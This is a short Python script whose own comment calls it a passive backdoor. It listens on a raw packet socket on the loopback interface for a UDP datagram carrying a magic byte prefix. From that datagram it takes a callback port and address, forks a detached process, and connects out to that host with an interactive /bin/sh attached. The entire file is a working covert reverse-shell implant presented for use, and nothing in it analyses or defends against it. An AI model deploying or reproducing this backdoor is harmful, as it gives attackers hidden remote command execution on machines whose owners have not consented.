# a passive backdoor: a packet socket on lo waits for a UDP datagram whose
# payload starts with the magic; its next 6 bytes are the port and IPv4
# address to call back, where a /bin/sh -i gets the connection
import os, signal, socket, struct, subprocess
MAGIC = b"\x52\x93\x1c\x7e"
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800))
s.bind(("lo", 0))
while True:
    pkt, addr = s.recvfrom(65535)
    if addr[2] != socket.PACKET_HOST:
        continue
    ip = pkt[14:]
    if len(ip) < 28 or ip[9] != 17:
        continue
    data = ip[(ip[0] & 15) * 4 + 8:]
    if not data.startswith(MAGIC) or len(data) < 10:
        continue
    port = struct.unpack("!H", data[4:6])[0]
    host = socket.inet_ntoa(data[6:10])
    if os.fork() == 0:
        os.setsid()
        try:
            c = socket.create_connection((host, port), timeout=10)
            c.settimeout(None)
            subprocess.call(["/bin/sh", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())
        finally:
            os._exit(0)
